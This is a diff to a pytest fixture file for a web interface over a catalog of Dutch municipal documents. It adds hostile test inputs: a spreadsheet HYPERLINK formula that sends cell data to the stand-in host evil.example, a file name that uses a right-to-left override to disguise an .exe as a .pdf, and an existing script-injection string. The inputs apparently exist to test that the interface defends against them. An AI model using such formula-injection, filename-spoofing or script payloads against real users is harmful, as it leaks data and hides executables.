@@ -17,6 +17,9 @@ from webui import create_app
 
 SCRIPT = "<script>alert(1)</script>"
 NON_ASCII_NAME = "Besluit ‘fusie’ Súdwest-Fryslân.txt"
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik hier")'
+# A right-to-left override makes "notulen\u202efdp.exe" show as "notulenexe.pdf".
+BIDI_NAME = "notulen\u202efdp.exe.txt"
 
 
 def write_pdf(path: Path, title: str, paragraphs: list[str]) -> None:
@@ -70,6 +73,10 @@ def make_documents(inbox: Path) -> dict[str, Path]:
         "regeling voor de uitvoering van de belastingen.\n\nDe raad besluit de regeling vast te stellen.\n",
         encoding="utf-8",
     )
+    files["formula"] = inbox / BIDI_NAME
+    files["formula"].write_text(
+        f"{FORMULA}\n\nNotulen van de raad van de gemeente Skarsterlân over de samenwerking met de gemeenten "
+        "in Friesland, vastgesteld op 4 juli 2012.\n", encoding="utf-8")
     files["copy"] = inbox / "kopie" / "mandaat-kopie.pdf"
     files["copy"].parent.mkdir()
     shutil.copyfile(files["mandaat"], files["copy"])
@@ -91,7 +98,7 @@ def web_data(tmp_path_factory, fixture_files) -> dict:
     assert summary.failed == 1 and summary.indexed > 0, summary.as_dict()
     with Catalog(data.catalog_path, readonly=True) as catalog:
         ids = {name: catalog.arrived_as(path=str(path))[0] for name, path in files.items()}
-    return {"root": data.root, "files": files, "ids": ids, "script": SCRIPT}
+    return {"root": data.root, "files": files, "ids": ids, "script": SCRIPT, "formula": FORMULA}
 
 
 @pytest.fixture(scope="session")
